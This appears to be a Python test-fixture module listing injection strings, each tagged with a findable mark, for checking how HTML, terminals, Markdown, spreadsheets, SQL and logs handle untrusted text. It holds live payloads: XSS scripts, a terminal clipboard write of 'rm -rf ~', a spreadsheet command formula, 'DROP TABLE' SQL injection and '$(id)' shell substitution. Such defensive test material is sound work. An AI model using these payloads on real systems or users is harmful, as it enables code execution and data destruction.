"""Texts that attack whoever shows them, each with a word by which it is found again."""

MARK = "mark{:02}x"

# A text, and against what; {} is its mark.
_TEXTS = [
    # HTML
    (b"<script>{}</script>", "an element that runs"),
    (b"</script><script>alert('{}')</script>", "the end of another"),
    (b"<img src=x onerror=alert(1) alt={}>", "an event handler"),
    (b"\"><svg onload=alert(1)>{}", "out of an attribute in double quotes"),
    (b"' onmouseover='alert(1)' x='{}", "out of one in single quotes"),
    (b"\"\xcc\x81 onclick=\"alert(1)\" {}", "a quote with a combining mark"),
    (b"<\xcc\xb8script>{}", "a bracket with a combining mark"),
    (b"javascript:alert('{}')", "a URI that runs"),
    (b"data:text/html,<script>{}</script>", "a URI that holds a page"),
    (b"<a href=\"javascript:{}\">x</a>", "a link to such"),
    (b"--><b>{}</b><!--", "a comment"), (b"]]><b>{}</b>", "a CDATA section"),
    (b"</style></title></textarea></pre><h1>{}", "ends of elements that hold text"),
    (b"&lt;b&gt;{}&#x3C;script&#x3E;", "character references"),
    (b"{{{}}} {{{{{}}}}} {{{{&{}}}}} {{{{#runs}}}}{{{{/runs}}}}", "a template's braces"),
    # Terminal
    (b"\x1b[2J\x1b[1;1H{}", "a screen wiped"), (b"\x1b]0;{}\x07", "a title set"),
    (b"\x1b]8;;http://evil.example/{}\x1b\\click\x1b]8;;\x1b\\", "a link"),
    (b"\x1b]52;c;cm0gLXJmIH4K\x07{}", "the clipboard"), (b"\x1bP+q544e\x1b\\{}", "a device string"),
    (b"\xc2\x9b31m{}", "a C1 control"), (b"\x9b31m{}", "and as a byte"),
    (b"all is well\r{} not\x08\x08\x08", "CR and backspace"),
    (b"{}\x0b\x0c\x0e\x0f\x7f\x05", "other controls"), (b"{}\x00behind NUL", "NUL"),
    ("\u202egnp.{}\u202c".encode(), "a turned direction"),
    ("\u2066{}\u2069 \u2067x\u2069 \u200f\u061c".encode(), "isolates and marks"),
    ("{}\u200b\u200d\u2060\ufeff\u00ad\u3164".encode(), "what has no width"),
    ("{}\u2028\u2029\u0085".encode(), "line separators"),
    ("{}".encode() + "\u0301".encode() * 40, "a tower of marks"),
    ("\U000e0041\U000e0042{}\ufe0f".encode(), "tags"), ("{} \u05d0\u05d11".encode(), "Hebrew"),
    (b"{} \xff\xfe\xc0\xaf\xed\xa0\x80", "no UTF-8"), (b"{} " + b"x" * 3000, "a long line"),
    # Markdown
    (b"[{}](javascript:alert(1))", "a link"), (b"![{}](http://evil.example/x.png)", "an image"),
    (b"<http://evil.example/{}> http://evil.example www.evil.example", "autolinks"),
    (b"| {} | a | b |", "a table's cells"), (b"{}\\| x \\\\| y", "escaped cells"),
    (b"``` {} ```", "a fence"), (b"`{}` *x* _y_ ~~z~~ # h", "emphasis"),
    (b"<details><summary>{}</summary>", "HTML in Markdown"), (b"</details> {}", "and its end"),
    (b"# {}", "a heading"), (b"- {}", "a list"), (b"$${}$$ @octocat #1", "mathematics, mentions"),
    # Spreadsheets
    (b"=HYPERLINK(\"http://evil.example\",\"{}\")", "a formula"), (b"+{}", "another"),
    (b"-1+1|cmd|'{}'!A1", "a command"), (b"@SUM({})", "an at sign"), (b"\t=1+{}", "a tab"),
    # SQL, formats, logs
    (b"'; DROP TABLE run; -- {}", "SQL"), (b"\" OR \"\"=\" {} \\' %'", "more of it"),
    (b"%s%n%x%@ {} %1$s \\(x) ${{HOME}} $(id) `id`", "format strings and shells"),
    (b"{}\n2026-01-01T00:00:00+0000 info sts-census: all is well", "a log line"),
    (b"{}\r\n\r\n<h1>", "lines"), (b"{\"{}\": \"\\u0000\\", "JSON"),
]


def texts() -> list[tuple[str, bytes]]:
    """Each with its mark."""
    marked = []
    for number, (text, _) in enumerate(_TEXTS):
        mark = MARK.format(number)
        text = text.replace(b"{}", mark.encode()).replace(b"{{", b"{").replace(b"}}", b"}")
        marked.append((mark, text))
    return marked
